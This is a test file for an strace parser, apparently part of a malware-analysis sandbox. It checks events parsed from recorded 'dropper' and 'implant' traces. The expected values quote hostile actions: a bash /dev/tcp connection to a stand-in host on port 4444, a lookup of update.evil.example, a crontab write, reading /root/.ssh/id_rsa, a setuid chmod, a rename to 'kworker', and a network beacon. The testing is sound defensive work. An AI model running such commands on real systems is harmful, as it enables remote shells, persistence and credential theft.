import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseStrace, StraceParser } from './strace-parser.js';
import type { EventOf, TraceEvent } from './trace-events.js';

/** A recorded trace from packages/server/test/fixtures/sandbox (see its README). */
const fixtureTrace = (name: string) =>
  readFileSync(new URL(`../../test/fixtures/sandbox/${name}.strace`, import.meta.url), 'utf8');

const of = <T extends TraceEvent['type']>(events: TraceEvent[], type: T) =>
  events.filter((e): e is EventOf<T> => e.type === type);

describe('strace parser on a recorded dropper script', () => {
  const events = parseStrace(fixtureTrace('dropper'));

  it('reads execs with their argv, including ones split by other processes', () => {
    const execs = of(events, 'exec').filter((e) => e.pid !== 25320 && e.pid !== 25321 && e.pid !== 25322);
    expect(execs.map((e) => [e.pid, e.path, e.argv, e.ok])).toEqual([
      [25323, '/usr/bin/prlimit', expect.arrayContaining(['/usr/bin/prlimit', '/sample/dropper.sh']), true],
      [25323, '/sample/dropper.sh', ['/sample/dropper.sh'], true],
      [25324, '/usr/bin/mkdir', ['mkdir', 'stage'], true],
      [25326, '/usr/bin/touch', ['touch', 'marker'], true],
      [25330, '/usr/bin/bash', ['bash', '-c', 'exec 3<>/dev/tcp/203.0.113.7/4444'], true],
      [25331, '/usr/bin/getent', ['getent', 'hosts', 'update.evil.example'], true],
      [25333, '/usr/bin/sh', ['sh', '-c', 'echo child'], true],
      [25334, '/usr/bin/sleep', ['sleep', '0.3'], true],
    ]);
  });

  it('links children to parents by the tracer pid, not the sandbox one', () => {
    const spawns = of(events, 'spawn').filter((e) => e.pid === 25323);
    expect(spawns.map((e) => [e.child, e.sandboxPid, e.thread])).toEqual([
      [25324, 4, false],
      [25326, 5, false],
      [25330, 6, false],
      [25331, 7, false],
      [25332, 8, false],
      [25333, 9, false],
    ]);
  });

  it('makes relative paths absolute from the working directory', () => {
    expect(of(events, 'mkdir').find((e) => e.pid === 25324)?.path).toBe('/tmp/stage');
    expect(of(events, 'open').find((e) => e.pid === 25326 && e.write)).toMatchObject({
      path: '/tmp/stage/marker',
      create: true,
    });
    expect(
      of(events, 'chdir')
        .filter((e) => e.pid === 25323)
        .map((e) => e.path),
    ).toEqual(['/tmp', '/tmp/stage']);
  });

  it('reads writes, connects and sends with their results', () => {
    expect(of(events, 'open').find((e) => e.path === '/etc/crontab')).toMatchObject({
      pid: 25323,
      write: true,
      flags: ['O_WRONLY', 'O_CREAT', 'O_APPEND'],
      ok: true,
    });
    expect(of(events, 'connect').find((e) => e.pid === 25330)).toMatchObject({
      endpoint: { family: 'ipv4', address: '203.0.113.7', port: 4444 },
      transport: 'TCP',
      ok: false,
      errno: 'ENETUNREACH',
    });
    expect(of(events, 'connect').find((e) => e.unixPath)).toMatchObject({
      unixPath: '/var/run/nscd/socket',
      endpoint: null,
    });
    const send = of(events, 'send').find((e) => e.pid === 25331);
    expect(send).toMatchObject({ endpoint: null, transport: 'UDP', inode: '81624' });
    expect(
      Buffer.from(send?.payloads[0] ?? [])
        .subarray(12, 19)
        .toString('latin1'),
    ).toBe('\x06update');
  });

  it('reads exits in trace order', () => {
    expect(of(events, 'exit').find((e) => e.pid === 25323)?.code).toBe(3);
  });
});

describe('strace parser on a recorded ELF implant', () => {
  const events = parseStrace(fixtureTrace('implant'));
  const implant = (type: TraceEvent['type']) => events.filter((e) => e.pid === 25877 && e.type === type);

  it('attributes a thread’s calls to its process', () => {
    expect(of(events, 'spawn').find((e) => e.thread)).toMatchObject({ pid: 25877, child: 25879 });
    expect(of(events, 'open').find((e) => e.path === '/root/.ssh/id_rsa')?.pid).toBe(25877);
    // The thread's own exit is not the process's.
    expect(of(events, 'exit').some((e) => e.pid === 25877)).toBe(false);
  });

  it('reads identity changes, ptrace, chmod and rename', () => {
    expect(implant('setid').map((e) => (e as EventOf<'setid'>).call)).toEqual(['setuid', 'setresgid']);
    expect(implant('ptrace')[0]).toMatchObject({
      request: 'PTRACE_ATTACH',
      target: 1,
      ok: false,
      errno: 'EPERM',
    });
    expect(implant('chmod')[0]).toMatchObject({ path: '/var/tmp/.cache/implant', mode: 0o4755 });
    expect(implant('rename')[0]).toMatchObject({
      from: '/var/tmp/.cache/implant',
      to: '/var/tmp/.cache/kworker',
    });
  });

  it('reads every buffer of sendmmsg and the destination of sendmsg', () => {
    const [dns, beacon] = implant('send') as EventOf<'send'>[];
    expect(dns?.payloads).toHaveLength(2);
    expect(beacon).toMatchObject({ endpoint: { address: '198.51.100.9', port: 9999 }, errno: 'ENETUNREACH' });
    expect(Buffer.from(beacon?.payloads[0] ?? []).toString()).toBe('beacon');
  });

  it('keeps a sleep interrupted by the kill, and the kill', () => {
    expect(implant('sleep')[0]).toMatchObject({ call: 'clock_nanosleep', ms: 45_000, ok: null });
    expect(implant('killed')[0]).toMatchObject({ signal: 'SIGKILL' });
  });

  it('reads the same events line by line as from the whole text', () => {
    const parser = new StraceParser();
    for (const line of fixtureTrace('implant').split('\n')) parser.push(line);
    expect(parser.finish()).toEqual(events);
    expect(parser.skipped).toBe(0);
  });
});
